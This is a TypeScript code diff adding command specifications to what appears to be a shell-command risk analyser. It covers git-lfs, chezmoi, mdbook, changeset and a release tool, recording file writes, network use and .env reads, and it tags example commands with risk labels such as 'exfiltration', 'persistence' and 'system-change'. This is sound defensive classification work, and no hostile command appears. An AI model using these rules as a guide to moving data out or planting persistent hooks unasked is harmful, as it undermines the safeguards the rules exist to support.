+      if (!call.has('--preview')) ctx.sends();
+      if (!call.has('--no-cleanup', '--yolo', '--preview')) ctx.apply('delete-tree', f(DOT, 'node_modules'));
+    },
+    examples: [
+      { cmd: 'np patch --preview', network: true, only: true },
+      { cmd: 'np minor', risks: ['exfiltration'] },
+    ],
+  },
+  {
+    names: ['git-lfs'],
+    summary: 'Git Large File Storage: keep large files on an LFS server, installing git hooks and filters',
+    options: { '-h|--help|-v|--version': 'flag' },
+    subcommands: {
+      install: {
+        summary: 'install the LFS filters in the git settings and the LFS hooks in the repository',
+        options: {
+          '-f|--force|-l|--local|-w|--worktree|--system|--skip-smudge|--skip-repo|--manual': 'flag',
+          '--file': 'write',
+        },
+        effects: { risks: ['persistence'] },
+        custom(call) {
+          const { ctx } = call;
+          if (call.has('--system')) {
+            ctx.risk('system-change');
+            ctx.write('/etc/gitconfig');
+          } else if (call.has('-l', '--local', '-w', '--worktree')) ctx.write(ctx.path('.git/config'));
+          else ctx.write(`${ctx.home}/.gitconfig`);
+          if (!call.has('--skip-repo')) ctx.write(`${ctx.path('.git/hooks')}/*`);
+        },
+      },
+      update: {
+        summary: 'install or update the LFS git hooks',
+        options: { '-f|--force|-m|--manual': 'flag' },
+        effects: { risks: ['persistence'] },
+        custom: (call) => call.ctx.write(`${call.ctx.path('.git/hooks')}/*`),
+      },
+      uninstall: {
+        summary: 'remove the LFS filters and hooks',
+        options: { '-l|--local|-w|--worktree|--system|--skip-repo': 'flag' },
+        custom: (call) => call.ctx.write(`${call.ctx.home}/.gitconfig`),
+      },
+      'track|untrack': {
+        summary: 'choose which paths are stored in LFS',
+        options: {
+          '-l|--lockable|--not-lockable|--dry-run|-v|--verbose|--json|--no-modify-attrs|--no-excluded|--filename':
+            'flag',
+        },
+        operands: ['value...'],
+        custom: (call) => call.ctx.write(call.ctx.path('.gitattributes')),
+      },
+      'fetch|pull|clone|checkout|post-checkout|post-merge|smudge|filter-process': {
+        summary: 'download LFS objects (and write them into the work tree)',
+        options: {
+          '-I|--include|-X|--exclude|--to': 'value',
+          '-r|--recent|--refetch|-a|--all|-p|--prune|-d|--dry-run|-j|--json|--skip-repo': 'flag',
+        },
+        operands: ['value...'],
+        effects: { network: true },
+        custom(call) {
+          if (call.sub !== 'fetch') call.ctx.write(`${call.ctx.path('.')}/**`);
+        },
+      },
+      'push|pre-push': {
+        summary: 'upload LFS objects to the LFS server',
+        options: { '--dry-run|--all|--object-id|--stdin': 'flag' },
+        operands: ['value...'],
+        effects: { network: true, sends: true },
+      },
+      migrate: {
+        summary: 'rewrite history to move files into or out of LFS',
+        options: {
+          '-I|--include|-X|--exclude|--include-ref|--exclude-ref|--above|--object-map|-m|--message': 'value',
+          '--fixup|--everything|--no-rewrite|--skip-fetch|--yes|--verbose': 'flag',
+        },
+        operands: ['value...'],
+        custom(call) {
+          const mode = call.operands[0]?.text;
+          if (mode === 'import' || mode === 'export') {
+            call.ctx.risk('history-rewrite');
+            call.ctx.write(`${call.ctx.path('.git')}/**`);
+          }
+        },
+      },
+      'lock|unlock|locks': {
+        summary: 'lock files on the LFS server',
+        options: {
+          '-r|--remote|-i|--id|--path|-l|--limit': 'value',
+          '-f|--force|--local|--cached|--verify|--json': 'flag',
+        },
+        operands: ['value...'],
+        effects: { network: true },
+      },
+      prune: {
+        summary: 'delete old local LFS objects',
+        options: {
+          '-d|--dry-run|-v|--verbose|-c|--verify-remote|--no-verify-remote|--recent|--force|--when-unverified':
+            'flag',
+        },
+        custom: (call) => call.ctx.remove(`${call.ctx.path('.git/lfs/objects')}/**`),
+      },
+      'ls-files|status|env|version|logs|pointer|fsck|clean|dedup|merge-driver|standalone-file|ext|help|completion':
+        { summary: 'print information or run as a git filter', operands: ['value...'] },
+    },
+    examples: [
+      { cmd: 'git-lfs ls-files', only: true },
+      { cmd: "git-lfs track '*.psd'", writes: ['.gitattributes'], only: true },
+      { cmd: 'git-lfs install', risks: ['persistence'], writes: ['~/.gitconfig'] },
+      { cmd: 'git-lfs install --system', risks: ['system-change'], writes: ['/etc/gitconfig'] },
+      { cmd: 'git-lfs push origin main', risks: ['exfiltration'] },
+      { cmd: 'git-lfs migrate import --include="*.zip" --everything', risks: ['history-rewrite'] },
     ],
   },
 ]);
@@ -3365,4 +4347,34 @@ function dotenvFiles(call: Call): void {
   ];
   if (files.length === 0) call.ctx.read(call.ctx.path('.env'));
   for (const file of files) call.ctx.apply('read', file);
+}
+
+/** chezmoi apply: the home folder is rewritten and the source state's scripts run. */
+function chezmoiApply(call: Call): void {
+  const { ctx } = call;
+  if (call.has('-n', '--dry-run')) return;
+  const dest = call.values('-D', '--destination')[0];
+  const targets =
+    call.operands.length > 0 && /^(apply|update)$/.test(call.sub)
+      ? call.operands
+      : [dest ?? f(DOT, ctx.home)];
+  for (const t of targets) ctx.apply('write-tree', t);
+  ctx.risk('persistence');
+  if (!call.has('--no-scripts')) ctx.executes('the run_ scripts of the chezmoi source state');
+}
+
+function mdbook(call: Call): void {
+  const { ctx } = call;
+  const root = call.operands[0] ?? DOT;
+  ctx.apply('read-tree', root);
+  if (!call.values('-d', '--dest-dir').length)
+    ctx.apply('write-tree', f(root, `${root.text.replace(/\/$/, '')}/book`));
+  ctx.executes('the preprocessors and renderers named in book.toml');
+}
+
+function changesetAdd(call: Call): void {
+  const { ctx } = call;
+  ctx.write(`${ctx.path('.changeset')}/*`);
+  if (call.has('--open')) ctx.unknown('opens the changeset in an editor that reads the terminal');
+  if (!call.has('--empty')) ctx.unknown('asks the questions of the changeset on the terminal');
 }
